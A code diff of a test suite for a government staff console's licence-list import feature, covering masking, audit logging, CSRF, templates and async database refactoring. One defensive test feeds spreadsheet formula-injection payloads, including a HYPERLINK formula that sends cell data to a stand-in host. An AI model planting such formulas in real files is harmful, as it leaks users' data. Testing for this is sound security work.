@@ -1,4 +1,5 @@
 import { afterEach, describe, expect, it } from "vitest";
+import { sql } from "drizzle-orm";
 import ExcelJS from "exceljs";
 import { insertImport, replaceRejectedRows, updateImport, type StaffRole } from "@hccd/db";
 import { LICENCE_COLUMNS } from "@hccd/shared";
@@ -24,8 +25,8 @@ tour-guide-card,HDV-003,Ông,Nguyễn Văn A,,12345,,31/02/2027,,
 tour-guide-card,HDV-004,Cá nhân,Trần Thị Bích,999092004321,0912 000 111,,2027-06-30,25453,"Số 1, đường ""Hoa Sữa"""
 `;
 
-function world(env: Record<string, string> = {}) {
-  w = createTestWorld({ catalogue: twoAgencyCatalogue, env });
+async function world(env: Record<string, string> = {}) {
+  w = await createTestWorld({ catalogue: twoAgencyCatalogue, env });
   return w;
 }
 
@@ -37,7 +38,7 @@ function staff(role: StaffRole, username: string) {
 }
 
 async function session(role: StaffRole, username: string) {
-  staff(role, username);
+  await staff(role, username);
   return consoleLogin(w, username, PASSWORD);
 }
 
@@ -58,11 +59,11 @@ async function uploadAndFinish(s: { cookie: string; token: string }, name = "vht
   return location.split("/").pop()!;
 }
 
-const auditActions = () => (w.handle.sqlite.prepare("select action from audit_log where action like 'import.%' order by id").all() as { action: string }[]).map((r) => r.action);
+const auditActions = async () => (await w.rows<{ action: string }>(sql`select action from audit_log where action like 'import.%' order by id`)).map((r) => r.action);
 
 describe("the imports area of the console", () => {
   it("uploads a list through the form, then shows the counts and the row report with ID numbers and phones masked", async () => {
-    world();
+    await world();
     const officer = await session("department", "so-vhttdl");
     const id = await uploadAndFinish(officer);
     const res = await consoleRequest(w, `/staff/imports/${id}`, { cookie: officer.cookie });
@@ -83,11 +84,11 @@ describe("the imports area of the console", () => {
     expect(html).not.toContain("999092004321");
     expect(html).toContain('href="/staff/imports/' + id + '/rejected.csv"');
     // Viewing a report of personal data is audited.
-    expect(auditActions()).toEqual(["import.started", "import.report_read"]);
+    expect(await auditActions()).toEqual(["import.started", "import.report_read"]);
   });
 
   it("downloads the rejected rows as a CSV to fix and upload again: BOM, the file's columns, a reason column, correct quoting", async () => {
-    world();
+    await world();
     const officer = await session("department", "so-vhttdl");
     const id = await uploadAndFinish(officer);
     const res = await consoleRequest(w, `/staff/imports/${id}/rejected.csv`, { cookie: officer.cookie });
@@ -105,7 +106,7 @@ describe("the imports area of the console", () => {
     expect(lines[2]).toMatch(/^tour-guide-card,HDV-003,Ông,Nguyễn Văn A,,12345,,31\/02\/2027,,,"Loại chủ thể: phải là “Cá nhân” hoặc “Tổ chức”; Số điện thoại: không phải số di động Việt Nam \(ví dụ 0912345678 hoặc \+84 912 345 678\); Ngày hết hạn: không phải ngày có thật trên lịch"$/);
     // As uploaded (unmasked: it is the officer's own file), the address quoted with its quotes doubled.
     expect(lines[3]).toContain('tour-guide-card,HDV-004,Cá nhân,Trần Thị Bích,999092004321,0912 000 111,,2027-06-30,25453,"Số 1, đường ""Hoa Sữa""",');
-    expect(auditActions()).toEqual(["import.started", "import.rejected_downloaded"]);
+    expect(await auditActions()).toEqual(["import.started", "import.rejected_downloaded"]);
 
     // The download is a file the importer reads again (the reason column is an unknown header, ignored):
     // uploaded unchanged, the same rows are rejected again and nothing else is touched.
@@ -118,7 +119,7 @@ describe("the imports area of the console", () => {
   // was opened in Excel. Phones start with + and negative numbers with -, so the importer reads
   // the neutralising ' back: fixing and re-uploading the file changes no value.
   it("writes rejected cells that a spreadsheet would run neutralised, and reads them back as they were", async () => {
-    world();
+    await world();
     const officer = await session("department", "so-vhttdl");
     const dangerous = `${HEADER}
 tour-guide-card,"=HYPERLINK(""http://x.example/?""&A1)",Cá nhân,Lê Văn Hùng,,+84 12345,,2027-01-01,,@SUM(1+1)
@@ -148,7 +149,7 @@ tour-guide-card,HDV-3,Cá nhân,=1+1,,0912345678,,-1,,'=quote
   });
 
   it("serves the same file on the staff API, in English headers on request", async () => {
-    world();
+    await world();
     const officer = await session("department", "so-vhttdl");
     const id = await uploadAndFinish(officer);
     const vi = await w.call("GET", `/api/staff/imports/${id}/rejected.csv`, { token: officer.token });
@@ -161,26 +162,26 @@ tour-guide-card,HDV-3,Cá nhân,=1+1,,0912345678,,-1,,'=quote
   });
 
   it("shows a running import's progress panel refreshing itself, without reading (or auditing) the report", async () => {
-    world();
+    await world();
     const officer = await session("department", "so-vhttdl");
-    const me = w.handle.sqlite.prepare("select id from staff_users where username = 'so-vhttdl'").get() as { id: string };
-    insertImport(w.handle.db, { id: "imp-running", fileName: "lon.csv", format: "csv", importedBy: me.id, startedAt: w.clock.now(), status: "running" });
-    updateImport(w.handle.db, "imp-running", { rows: 42_000 });
+    const me = await w.one<{ id: string }>(sql`select id from staff_users where username = 'so-vhttdl'`);
+    await insertImport(w.handle.db, { id: "imp-running", fileName: "lon.csv", format: "csv", importedBy: me!.id, startedAt: w.clock.now(), status: "running" });
+    await updateImport(w.handle.db, "imp-running", { rows: 42_000 });
     const html = await (await consoleRequest(w, "/staff/imports/imp-running", { cookie: officer.cookie })).text();
     expect(html).toMatch(/id="import-progress" data-testid="import-progress" data-refresh="\d+"/);
     expect(html).toContain("42000");
     expect(html).not.toContain('data-testid="import-report"');
-    expect(auditActions()).toEqual([]);
+    expect(await auditActions()).toEqual([]);
   });
 
   it(`pages a long report ${REPORT_PAGE_SIZE} rejected rows at a time`, async () => {
-    world();
+    await world();
     const admin = await session("admin", "quan-tri");
-    const me = w.handle.sqlite.prepare("select id from staff_users where username = 'quan-tri'").get() as { id: string };
-    insertImport(w.handle.db, { id: "imp-big", fileName: "lon.csv", format: "csv", importedBy: me.id, startedAt: w.clock.now(), status: "running" });
+    const me = await w.one<{ id: string }>(sql`select id from staff_users where username = 'quan-tri'`);
+    await insertImport(w.handle.db, { id: "imp-big", fileName: "lon.csv", format: "csv", importedBy: me!.id, startedAt: w.clock.now(), status: "running" });
     const rejected = Array.from({ length: 250 }, (_, i) => ({ row: i + 2, values: { service_code: "tour-guide-card", expires_on: "" }, truncated: {}, problems: [{ column: "expires_on", reason: "is required" }] }));
-    replaceRejectedRows(w.handle.db, "imp-big", rejected);
-    updateImport(w.handle.db, "imp-big", { status: "finished", finishedAt: w.clock.now(), rows: 250, rejected: 250, problems: 250 });
+    await replaceRejectedRows(w.handle.db, "imp-big", rejected);
+    await updateImport(w.handle.db, "imp-big", { status: "finished", finishedAt: w.clock.now(), rows: 250, rejected: 250, problems: 250 });
     const rowsOn = async (page: number) => {
       const html = await (await consoleRequest(w, `/staff/imports/imp-big?page=${page}`, { cookie: admin.cookie })).text();
       return { rows: [...html.matchAll(/<tr data-row="(\d+)">/g)].map((m) => Number(m[1])), next: html.includes('data-testid="report-next"'), previous: html.includes('data-testid="report-previous"') };
@@ -194,7 +195,7 @@ tour-guide-card,HDV-3,Cá nhân,=1+1,,0912345678,,-1,,'=quote
   });
 
   it("says when the report was cut and how many rows it does not keep, counts every problem by column and reason, and marks a cut value", async () => {
-    world();
+    await world();
     const officer = await session("department", "so-vhttdl");
     const long = `tour-guide-card,HDV-L,Cá nhân,Lê Văn Hùng,,0912345678,,2027-03-01,25453,${"Ấp Trường Đổi ".repeat(100)}`;
     const badPhones = Array.from({ length: 1200 }, (_, i) => `tour-guide-card,HDV-P${i},Cá nhân,Lê Văn Hùng,,12345,,2027-03-01,,`);
@@ -212,7 +213,7 @@ tour-guide-card,HDV-3,Cá nhân,=1+1,,0912345678,,-1,,'=quote
   });
 
   it("refuses a file over IMPORT_MAX_BYTES with a clear message, and a wrong kind of file, in the officer's language", async () => {
-    world({ IMPORT_MAX_BYTES: "2048" });
+    await world({ IMPORT_MAX_BYTES: "2048" });
     const officer = await session("department", "so-vhttdl");
     const big = await uploadForm(officer, "lon.csv", `${HEADER}\n${"tour-guide-card,HDV-1,Cá nhân,A,,,,2027-01-01,,\n".repeat(100)}`);
     expect(big.status).toBe(413);
@@ -225,13 +226,13 @@ tour-guide-card,HDV-3,Cá nhân,=1+1,,0912345678,,-1,,'=quote
     const fake = await uploadForm(officer, "danh-sach.xlsx", "không phải zip");
     expect(fake.status).toBe(422);
     expect(await fake.text()).toContain("không phải bảng tính Excel");
-    expect(w.handle.sqlite.prepare("select count(*) as n from imports").get()).toEqual({ n: 0 });
+    expect(await w.one(sql`select count(*) as n from imports`)).toEqual({ n: 0 });
   });
 
   // Finding 11 (issue 13): a fake .xlsx failed with "FILE_ENDED", a huge one with "Invalid string
   // length"; a header problem was English only. The officer reads what is wrong and what to do.
   it("says in the officer's language why a file was refused, what its header lacks, and what it did not import", async () => {
-    world();
+    await world();
     const officer = await session("department", "so-vhttdl");
     const page = async (id: string) => (await consoleRequest(w, `/staff/imports/${id}`, { cookie: officer.cookie })).text();
     const fakeXlsx = new Uint8Array([0x50, 0x4b, 0x03, 0x04, ...new TextEncoder().encode("không phải bảng tính, chỉ giống ở hai byte đầu")]);
@@ -257,17 +258,17 @@ tour-guide-card,HDV-3,Cá nhân,=1+1,,0912345678,,-1,,'=quote
   });
 
   it("refuses an upload form without the CSRF token", async () => {
-    world();
+    await world();
     const officer = await session("department", "so-vhttdl");
     const form = new FormData();
     form.set("file", new File([CSV], "a.csv", { type: "text/csv" }));
     const res = await w.app.request("/staff/imports", { method: "POST", headers: { cookie: officer.cookie, "sec-fetch-site": "same-origin" }, body: form });
     expect(res.status).toBe(403);
-    expect(w.handle.sqlite.prepare("select count(*) as n from imports").get()).toEqual({ n: 0 });
+    expect(await w.one(sql`select count(*) as n from imports`)).toEqual({ n: 0 });
   });
 
   it("shows a department officer only their department's imports: an admin's is not found, nor its rejected rows", async () => {
-    world();
+    await world();
     const admin = await session("admin", "quan-tri");
     const officer = await session("department", "so-vhttdl");
     const adminImport = await uploadAndFinish(admin, "toan-tinh.csv");
@@ -287,7 +288,7 @@ tour-guide-card,HDV-3,Cá nhân,=1+1,,0912345678,,-1,,'=quote
 // required, which service codes exist, nor offer a file to start from.
 describe("the import page's help and templates", () => {
   it("lists every column (label and key, required or not) and the service codes the officer may import", async () => {
-    world();
+    await world();
     const officer = await session("department", "so-vhttdl");
     const html = await (await consoleRequest(w, "/staff/imports", { cookie: officer.cookie })).text();
     const columns = html.slice(html.indexOf('data-testid="import-columns"'));
@@ -307,7 +308,7 @@ describe("the import page's help and templates", () => {
   });
 
   it("offers a CSV template that imports cleanly once a row is added", async () => {
-    world();
+    await world();
     const officer = await session("department", "so-vhttdl");
     const res = await consoleRequest(w, "/staff/imports/template.csv", { cookie: officer.cookie });
     expect(res.status).toBe(200);
@@ -322,7 +323,7 @@ describe("the import page's help and templates", () => {
   });
 
   it("offers an .xlsx template whose ID, phone and ward columns keep their leading zeros, and which imports cleanly once filled", async () => {
-    world();
+    await world();
     const officer = await session("department", "so-vhttdl");
     const res = await consoleRequest(w, "/staff/imports/template.xlsx", { cookie: officer.cookie });
     expect(res.status).toBe(200);
@@ -344,6 +345,6 @@ describe("the import page's help and templates", () => {
     const id = await uploadAndFinish(officer, "tu-mau.xlsx", filled);
     const detail = await (await w.call("GET", `/api/staff/imports/${id}`, { token: officer.token })).json();
     expect(detail).toMatchObject({ status: "finished", created: 1, rejected: 0, report: [] });
-    expect(w.handle.sqlite.prepare("select holder_id, phone, expires_on from documents").get()).toEqual({ holder_id: "072092004321", phone: "84912345678", expires_on: "2027-03-01" });
+    expect(await w.one(sql`select holder_id, phone, expires_on from documents`)).toEqual({ holder_id: "072092004321", phone: "84912345678", expires_on: "2027-03-01" });
   });
 });
